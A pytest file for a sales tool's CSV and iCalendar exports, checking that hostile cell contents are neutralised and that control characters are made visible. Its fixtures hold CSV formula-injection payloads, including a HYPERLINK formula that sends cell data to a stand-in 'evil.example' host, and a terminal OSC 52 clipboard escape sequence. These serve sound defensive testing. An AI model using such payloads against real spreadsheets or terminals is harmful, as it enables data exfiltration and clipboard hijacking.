"""storage/exports.py: the prospects CSV, the closed-deals CSV and the iCalendar file, written to
real files from real books and read back with `csv` and the icalendar library."""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import stat

import pytest
from icalendar import Calendar

from storage import actions
from storage.actions import NextStep
from storage.rules.dates import When, stored
from storage.book.errors import InvalidInput
from storage.exchange.exports import (
    BOM,
    CLOSED_HEADERS,
    CSV_HEADERS,
    event_uid,
    neutralise,
    private_file,
    write_closed_deals_csv,
    write_csv,
    write_ics,
)
from storage.book.models import Prospect

TZ = "Europe/Paris"
NOW = dt.datetime(2026, 11, 23, 8, 30)  # naive UTC: Monday 09:30 in Paris


def utc(day: str, time: str | None = None) -> dt.datetime:
    """The naive UTC moment of a local day (and time) in Paris."""
    t = dt.time.fromisoformat(time) if time else None
    return stored(When(dt.date.fromisoformat(day), t), TZ)


def step(day: str, time: str | None = None, **kwargs) -> NextStep:
    return NextStep(due_at=utc(day, time), has_time=time is not None, **kwargs)


def read_csv(path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle, strict=True))


# --- neutralising cells ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=HYPERLINK(\"http://evil\",\"x\")", "'=HYPERLINK(\"http://evil\",\"x\")"),
        ("+1 555 0100", "'+1 555 0100"),
        ("-5", "'-5"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("\ncmd", "'\ncmd"),
        ("\uff1d1+1", "'\uff1d1+1"),  # full-width ＝
        ("\uff0b1", "'\uff0b1"),
        ("\uff0d1", "'\uff0d1"),
        ("\uff20SUM", "'\uff20SUM"),
        ("Ada Lovelace", "Ada Lovelace"),
        ("a=b", "a=b"),
        (" =1", " =1"),
        ("'quoted", "'quoted"),
        ("", ""),
    ],
)
def test_neutralise_prefixes_only_cells_a_spreadsheet_would_run(cell, written):
    assert neutralise(cell) == written


# --- the private file ------------------------------------------------------------------------


def test_private_file_is_owner_only_and_replaces_the_destination_whole(tmp_path):
    path = tmp_path / "out.txt"
    path.write_text("old")
    os.chmod(path, 0o644)
    with private_file(path) as out:
        out.write("new\r\n")
        assert path.read_text() == "old"  # nothing half-written where the rep looks
    assert path.read_bytes() == b"new\r\n"
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o600
    assert not (tmp_path / "out.txt.tmp").exists()


def test_private_file_leaves_the_destination_untouched_on_error(tmp_path):
    path = tmp_path / "out.txt"
    path.write_text("old")
    with pytest.raises(RuntimeError):
        with private_file(path) as out:
            out.write("half")
            raise RuntimeError("boom")
    assert path.read_text() == "old"
    assert not (tmp_path / "out.txt.tmp").exists()


def test_private_file_in_a_missing_folder_says_so(tmp_path):
    with pytest.raises(InvalidInput) as caught:
        with private_file(tmp_path / "nowhere" / "out.csv"):
            pass
    assert caught.value.field == "file"
    assert "nowhere" in caught.value.message


# --- the prospects CSV ---------------------------------------------------------------------


def _hostile_book() -> dict[str, int]:
    ada = actions.add_prospect(
        {"name": '=HYPERLINK("http://evil.example/?"&A1,"Ada")', "company": "-5", "title": "@SUM(A1:A9)",
         "email": "ada@example.com", "phone": "+1 555 0100", "preferred_channel": "call", "deal_value": 12000,
         "timezone": "Europe/London", "source": "referral", "notes": "Likes tea.\nTwo sites."},
        step("2026-12-01", "14:30", channel="call", kind="new prospect", promised=True, what="Send the quote"),
        now=NOW,
    )
    actions.log_touch(ada, channel="email", outcome="replied", note="ok", at=utc("2026-11-20", "10:05"), now=NOW)
    actions.set_next_step(ada, step("2026-12-01", "14:30", channel="call", promised=True), now=NOW)
    grace = actions.add_prospect({"name": "Grace Hopper", "company": "Navy"}, step("2026-12-02", channel="email"), now=NOW)
    # a book written elsewhere may hold what our forms clean away: a leading tab, CR, full-width =
    Prospect.update(best_time="\tmornings", notes="\r=1+1", source="\uff1dcmd").where(Prospect.id == grace).execute()
    zoe = actions.add_prospect({"name": "Zoë Müller", "company": "Müller & Töchter"}, now=NOW)
    return {"ada": ada, "grace": grace, "zoe": zoe}


def test_csv_neutralises_formulas_keeps_numbers_and_opens_with_a_bom(book, tmp_path):
    _hostile_book()
    path = tmp_path / "prospects.csv"
    with private_file(path) as out:
        assert write_csv(out, tz=TZ) == 3
    raw = path.read_bytes()
    assert raw.startswith(BOM.encode("utf-8"))
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o600
    with open(path, encoding="utf-8-sig", newline="") as handle:
        assert next(csv.reader(handle)) == list(CSV_HEADERS)
    ada, grace, zoe = read_csv(path)
    assert ada["Name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Ada")'
    assert ada["Phone"] == "'+1 555 0100"
    assert ada["Company"] == "'-5"
    assert ada["Title"] == "'@SUM(A1:A9)"
    assert ada["Deal Value"] == "12000" and ada["Touches"] == "1"  # numbers stay numbers
    assert ada["Notes"] == "Likes tea.\nTwo sites."
    assert grace["Best Time"] == "'\tmornings"
    assert grace["Notes"] == "'\r=1+1"
    assert grace["Source"] == "'\uff1dcmd"
    assert zoe["Name"] == "Zoë Müller" and zoe["Company"] == "Müller & Töchter"
    # every field quoted: a cell a spreadsheet reads as one piece whatever it holds
    first_row = raw.decode("utf-8-sig").split("\r\n")[1]
    assert first_row.startswith('"\'=HYPERLINK(') and first_row.endswith('"')


def test_csv_dates_are_local_and_iso_with_the_next_step(book):
    ids = _hostile_book()
    out = io.StringIO()
    write_csv(out, tz=TZ)
    rows = {row["Email"] or row["Name"]: row for row in csv.DictReader(io.StringIO(out.getvalue().lstrip(BOM)))}
    ada, grace, zoe = rows["ada@example.com"], rows["Grace Hopper"], rows["Zoë Müller"]
    assert (ada["Next Follow-up"], ada["Next Channel"], ada["Kind"], ada["Promised"]) == (
        "2026-12-01 14:30", "call", "new prospect", "yes"
    )
    assert ada["Last Touch"] == "2026-11-20 10:05"  # Paris time, not UTC
    assert ada["Status"] == "active" and ada["Time Zone"] == "Europe/London" and ada["Preferred Channel"] == "call"
    assert (grace["Next Follow-up"], grace["Promised"], grace["Last Touch"]) == ("2026-12-02", "no", "")
    assert zoe["Next Follow-up"] == zoe["Kind"] == zoe["Promised"] == ""
    assert len(ids) == 3


def test_csv_reads_the_book_in_pages_and_reports_progress(book, monkeypatch):
    import storage.exchange.exports as exports

    for n in range(7):
        actions.add_prospect({"name": f"P{n}"}, now=NOW)
    monkeypatch.setattr(exports, "PAGE", 3)
    seen = []
    out = io.StringIO()
    assert write_csv(out, tz=TZ, progress=lambda done, total: seen.append((done, total))) == 7
    assert seen == [(3, 7), (6, 7), (7, 7)]
    assert [row["Name"] for row in csv.DictReader(io.StringIO(out.getvalue().lstrip(BOM)))] == [f"P{n}" for n in range(7)]


# --- the closed-deals CSV --------------------------------------------------------------------


def test_closed_deals_csv_says_who_when_value_touches_and_days_to_close(book, tmp_path):
    referrer = actions.add_prospect({"name": "Grace Hopper"}, now=utc("2026-09-01", "09:00"))
    ada = actions.add_prospect(
        {"name": "=Ada", "company": "Engines", "email": "ada@example.com", "deal_value": 12000, "source": "referral",
         "referred_by": referrer},
        now=utc("2026-11-01", "09:00"),
    )
    actions.log_touch(ada, channel="call", outcome="no answer", at=utc("2026-11-03", "10:00"), now=utc("2026-11-03", "10:00"))
    actions.log_touch(ada, channel="call", outcome="talked", at=utc("2026-11-10", "10:00"), now=utc("2026-11-10", "10:00"))
    # closed at 00:30 on the 21st in Paris, still the 20th in UTC: the rep's day counts
    actions.close_won(ada, NextStep(due_at=utc("2026-12-20"), kind="check-in"), now=utc("2026-11-21", "00:30"))
    actions.log_touch(ada, channel="call", outcome="talked", note="check-in", at=utc("2026-11-22", "10:00"), now=NOW)
    # the first touch came before the prospect was entered: days count from the touch
    bob = actions.add_prospect({"name": "Bob", "deal_value": 500}, now=utc("2026-10-10", "09:00"))
    actions.log_touch(bob, channel="email", outcome="replied", at=utc("2026-10-01", "09:00"), now=utc("2026-10-10", "09:00"))
    actions.close_won(bob, now=utc("2026-10-11", "09:00"))
    actions.add_prospect({"name": "Still active", "deal_value": 999}, now=NOW)
    dropped = actions.add_prospect({"name": "Dropped"}, now=NOW)
    actions.drop(dropped, "No budget", now=NOW)

    path = tmp_path / "closed.csv"
    with private_file(path) as out:
        assert write_closed_deals_csv(out, tz=TZ) == 2
    assert path.read_bytes().startswith(BOM.encode())
    with open(path, encoding="utf-8-sig", newline="") as handle:
        assert next(csv.reader(handle)) == list(CLOSED_HEADERS)
    rows = read_csv(path)
    assert [r["Name"] for r in rows] == ["'=Ada", "Bob"]
    ada_row, bob_row = rows
    assert ada_row == {
        "Name": "'=Ada", "Company": "Engines", "Email": "ada@example.com", "Closed": "2026-11-21",
        "Deal Value": "12000", "Touches": "2", "Days to Close": "20", "Source": "referral",
        "Referred By": "Grace Hopper", "Closing Note": "",
    }
    assert (bob_row["Closed"], bob_row["Touches"], bob_row["Days to Close"], bob_row["Referred By"]) == (
        "2026-10-11", "1", "10", ""
    )

    out = io.StringIO()
    assert write_closed_deals_csv(out, tz=TZ, since=dt.date(2026, 11, 1)) == 1
    assert "Bob" not in out.getvalue()


# --- the iCalendar file ----------------------------------------------------------------------


def ics(now: dt.datetime = NOW) -> tuple[int, Calendar]:
    out = io.StringIO()
    written = write_ics(out, tz=TZ, now=now)
    return written, Calendar.from_ical(out.getvalue().encode("utf-8"))


def events(cal: Calendar) -> dict[str, object]:
    return {str(event["UID"]): event for event in cal.walk("VEVENT")}


def _calendar_book() -> dict[str, int]:
    ada = actions.add_prospect(
        {"name": "Ada Lovelace", "company": "Analytical Engines", "phone": "+44 20 7946 0000",
         "email": "ada@engines.co.uk"},
        step("2026-11-25", "14:30", channel="call", what="Send the quote", promised=True),
        now=NOW,
    )
    grace = actions.add_prospect({"name": "Grace Hopper"}, step("2026-12-01", channel="email", kind="new prospect"), now=NOW)
    won = actions.add_prospect({"name": "Customer Co"}, step("2026-11-24"), now=NOW)
    actions.close_won(won, NextStep(due_at=utc("2027-01-15"), channel="call", kind="check-in"), now=NOW)
    dropped = actions.add_prospect({"name": "Gone"}, step("2026-11-24"), now=NOW)
    actions.drop(dropped, "Not interested", now=NOW)
    actions.add_prospect({"name": "No step yet"}, now=NOW)
    return {"ada": ada, "grace": grace, "won": won, "dropped": dropped}


def test_ics_holds_one_event_per_scheduled_follow_up_and_parses_back(book):
    ids = _calendar_book()
    written, cal = ics()
    assert written == 3
    assert str(cal["VERSION"]) == "2.0" and "Followup Desk" in str(cal["PRODID"])
    found = events(cal)
    assert set(found) == {event_uid(ids["ada"]), event_uid(ids["grace"]), event_uid(ids["won"])}
    ada, grace, won = (found[event_uid(ids[k])] for k in ("ada", "grace", "won"))

    # a timed step: the rep's zone, 30 minutes, a VTIMEZONE for clients that have no zone database
    start = ada.decoded("DTSTART")
    assert start == dt.datetime(2026, 11, 25, 14, 30, tzinfo=start.tzinfo)
    assert ada["DTSTART"].params["TZID"] == TZ
    assert ada.decoded("DTEND") - start == dt.timedelta(minutes=30)
    assert [str(tz["TZID"]) for tz in cal.walk("VTIMEZONE")] == [TZ]
    assert start.utcoffset() == dt.timedelta(hours=1)

    # the promise stands out
    assert str(ada["SUMMARY"]) == "★ Promised: Call Ada Lovelace · Analytical Engines"
    assert "Promised" in [str(c) for c in ada["CATEGORIES"].cats]
    assert int(ada["PRIORITY"]) == 1
    description = str(ada["DESCRIPTION"])
    assert description.splitlines() == ["Send the quote", "Kind: new prospect", "Phone: +44 20 7946 0000", "Email: ada@engines.co.uk"]

    # a date-only step: an all-day event on the local day
    assert grace.decoded("DTSTART") == dt.date(2026, 12, 1)
    assert not isinstance(grace.decoded("DTSTART"), dt.datetime)
    assert grace.decoded("DTEND") == dt.date(2026, 12, 2)
    assert str(grace["SUMMARY"]) == "Email Grace Hopper"
    assert "PRIORITY" not in grace and "CATEGORIES" not in grace

    # a won customer's check-in is a follow-up too
    assert won.decoded("DTSTART") == dt.date(2027, 1, 15)
    assert "Kind: check-in" in str(won["DESCRIPTION"])

    for event in (ada, grace, won):
        assert event.decoded("DTSTAMP") == NOW.replace(tzinfo=dt.timezone.utc)


def test_ics_uids_are_stable_and_a_snooze_updates_the_same_event(book, frozen):
    ids = _calendar_book()
    _, first = ics()
    _, again = ics()
    assert set(events(first)) == set(events(again))
    before = events(first)[event_uid(ids["grace"])]

    actions.snooze(ids["grace"], utc("2026-12-04"), now=NOW)
    _, after = ics()
    moved = events(after)[event_uid(ids["grace"])]
    assert set(events(after)) == set(events(first))  # updated, not doubled
    assert moved.decoded("DTSTART") == dt.date(2026, 12, 4)
    assert int(moved["SEQUENCE"]) == int(before["SEQUENCE"]) + 1

    # logging the touch and scheduling the next step moves the same event again
    actions.log_touch(ids["grace"], channel="email", outcome="replied", next_step=step("2026-12-10"), now=NOW)
    _, later = ics()
    assert int(events(later)[event_uid(ids["grace"])]["SEQUENCE"]) > int(moved["SEQUENCE"])

    # DTSTAMP defaults to now (frozen)
    out = io.StringIO()
    write_ics(out, tz=TZ)
    stamp = Calendar.from_ical(out.getvalue()).walk("VEVENT")[0].decoded("DTSTAMP")
    assert stamp == frozen.in_timezone("UTC").naive().replace(tzinfo=dt.timezone.utc)


def test_ics_without_timed_steps_has_no_timezone_and_an_empty_book_is_a_valid_calendar(book):
    written, cal = ics()
    assert written == 0 and cal.walk("VEVENT") == [] and str(cal["VERSION"]) == "2.0"
    actions.add_prospect({"name": "Grace"}, step("2026-12-01"), now=NOW)
    written, cal = ics()
    assert written == 1 and cal.walk("VTIMEZONE") == []


def test_ics_text_comes_back_literally_with_control_characters_made_visible(book):
    prospect_id = actions.add_prospect({"name": "x"}, step("2026-12-01", "09:00", what="Ask, then; wait"), now=NOW)
    # a book written elsewhere: markup, ICS specials, a newline and ESC, stored as is
    name = "[bold]Ada[/bold], Lovelace; \\ jr\nsecond line \x1b]52;c;evil\x07"
    Prospect.update(name=name, company="[link=http://x]Co[/link]").where(Prospect.id == prospect_id).execute()
    out = io.StringIO()
    write_ics(out, tz=TZ, now=NOW)
    text = out.getvalue()
    assert "\x1b" not in text and "\x07" not in text
    event = Calendar.from_ical(text).walk("VEVENT")[0]
    assert str(event["SUMMARY"]) == "Call [bold]Ada[/bold], Lovelace; \\ jr\nsecond line ␛]52;c;evil␇ · [link=http://x]Co[/link]"
    assert str(event["DESCRIPTION"]).splitlines()[0] == "Ask, then; wait"
    # every line of the file within RFC 5545's 75 octets, CRLF-terminated
    lines = text.encode("utf-8").split(b"\r\n")
    assert lines[-1] == b"" and all(len(line) <= 75 for line in lines)


def test_ics_to_a_private_file(book, tmp_path):
    _calendar_book()
    path = tmp_path / "follow-ups.ics"
    with private_file(path) as out:
        assert write_ics(out, tz=TZ, now=NOW) == 3
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o600
    assert len(Calendar.from_ical(path.read_bytes()).walk("VEVENT")) == 3
